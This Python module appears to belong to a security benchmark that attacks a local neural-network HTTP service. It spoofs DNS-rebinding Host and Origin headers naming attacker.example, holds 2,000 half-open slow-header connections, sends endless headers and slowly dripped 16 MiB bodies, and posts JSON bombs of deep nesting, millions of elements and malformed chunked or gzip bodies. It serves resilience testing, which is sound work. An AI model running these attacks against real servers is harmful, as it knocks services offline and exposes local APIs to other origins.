"""Abuse of HTTP/1.1, over sockets."""

import http.client
import itertools
import socket
import time
from contextlib import suppress
from threading import Event

from bench.attacks.attack import Outcomes, Victim, count_closed, keep_open, together

_BODY = 16 * 2**20
_HELD = 31 * 2**19
_DRIP_SECONDS = 1.0


def request(victim: Victim, method: str, path: str, fields: dict[str, str], body: bytes) -> int:
    """Make one request and return its status; 0: the connection was closed without one."""
    host, _, port = victim.http.rpartition(":")
    connection = http.client.HTTPConnection(
        host, int(port), timeout=60, source_address=(victim.source, 0)
    )
    try:
        connection.putrequest(method, path, skip_host="Host" in fields)
        for name, value in fields.items():
            connection.putheader(name, value)
        if "Transfer-Encoding" not in fields:
            connection.putheader("Content-Length", str(len(body)))
        connection.endheaders()
        with suppress(BrokenPipeError, ConnectionResetError):  # refused before it is read
            connection.send(body)
        response = connection.getresponse()
        response.read()
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        connection.close()
    return response.status


#: What a page of another origin makes a browser send, once its name resolves to this machine.
REBOUND: list[dict[str, str]] = [
    {"Host": "attacker.example", "Origin": "http://attacker.example"},
    {"Host": "attacker.example:8080"},
    {"Host": "127.0.0.1.attacker.example"},
    {"Host": "127.0.0.1", "Origin": "http://attacker.example"},
    {"Host": "127.0.0.1", "Origin": "null"},
]


def rebinding(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Read, create and delete networks as a web page of another name would."""
    json = {"Content-Type": "application/json"}
    calls = [
        ("GET", "/v1/networks", b""),
        ("POST", "/v1/networks", b'{"layerSizes": [2, 5, 1]}'),
        ("DELETE", "/v1/networks/none", b""),
        ("GET", "/", b""),
        ("OPTIONS", "/v1/networks", b""),
    ]
    for (method, path, body), fields in itertools.cycle(itertools.product(calls, REBOUND)):
        if ended.is_set():
            return
        outcomes.add(f"{method} {request(victim, method, path, fields | json, body)}")
        time.sleep(0.01)


def half_heads(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Open 2,000 connections with half a head each, and send another byte now and then."""

    def open_one() -> socket.socket:
        connection = victim.connect(victim.http)
        connection.sendall(b"GET /v1/networks HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        return connection

    connections = keep_open(open_one, 2_000, ended, outcomes)
    _drip(connections, ended)
    count_closed(connections, outcomes)


def endless_heads(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Send heads that never end, as fast as the server takes them."""
    lines = b"".join(b"X-%d: %s\r\n" % (number, b"v" * 1000) for number in range(50))

    def send() -> None:
        while not ended.is_set():
            try:
                with victim.connect(victim.http) as connection:
                    connection.sendall(b"GET /v1/networks HTTP/1.1\r\nHost: 127.0.0.1\r\n")
                    while not ended.is_set():
                        connection.sendall(lines)
                        outcomes.add("KiB", len(lines) // 1024)
            except OSError as error:
                outcomes.add(type(error).__name__)
                time.sleep(0.05)

    together(8, send)


def dripping_bodies(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Send 15.5 MiB of each of 100 bodies, then a byte of each now and then."""
    head = (
        "POST /v1/networks/none:predict HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        f"Content-Type: application/json\r\nContent-Length: {_BODY}\r\n\r\n"
    )

    def open_one() -> socket.socket:
        connection = victim.connect(victim.http)
        connection.settimeout(5)
        try:
            connection.sendall(head.encode() + b" " * _HELD)
        except OSError:
            connection.close()
            raise
        return connection

    connections = keep_open(open_one, 100, ended, outcomes)
    _drip(connections, ended)
    count_closed(connections, outcomes)


def _drip(connections: list[socket.socket], ended: Event) -> None:
    while not ended.wait(_DRIP_SECONDS):
        for each in connections:
            with suppress(OSError):
                each.sendall(b" ")


def _many_elements(victim: Victim, ended: Event, outcomes: Outcomes, element: bytes) -> None:
    """Send a body of 16 MiB that is short to write and large to build, on two connections."""
    count = (_BODY - 64) // (len(element) + 1)
    body = b'{"inputs":[' + b",".join([element] * count) + b"]}"
    fields = {"Content-Type": "application/json", "Host": "127.0.0.1"}

    def send() -> None:
        while not ended.is_set():
            status = request(victim, "POST", "/v1/networks/good-get:predict", fields, body)
            outcomes.add(f"HTTP {status}")
            time.sleep(0.2)

    together(2, send)


def many_objects(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Predict from millions of empty objects."""
    _many_elements(victim, ended, outcomes, b"{}")


def many_lists(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Predict from millions of empty lists."""
    _many_elements(victim, ended, outcomes, b"[]")


def deep_json(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Send millions of opening brackets, and bodies that are compressed or chunked."""
    deep = [b"[" * 2**22, b'{"a":' * 2**20, b"1" * 2**23]
    bodies: list[tuple[bytes, dict[str, str]]] = [(body, {}) for body in deep]
    chunked = (b"1\r\n \r\n" * 100_000 + b"0\r\n\r\n", {"Transfer-Encoding": "chunked"})
    zipped = (b"\x1f\x8b\x08" + bytes(2**20), {"Content-Encoding": "gzip"})
    fields = {"Content-Type": "application/json", "Host": "127.0.0.1"}
    for body, more in itertools.cycle([*bodies, chunked, zipped]):
        if ended.is_set():
            return
        status = request(victim, "POST", "/v1/networks/good-get:predict", fields | more, body)
        outcomes.add(f"HTTP {status}")
        time.sleep(0.02)
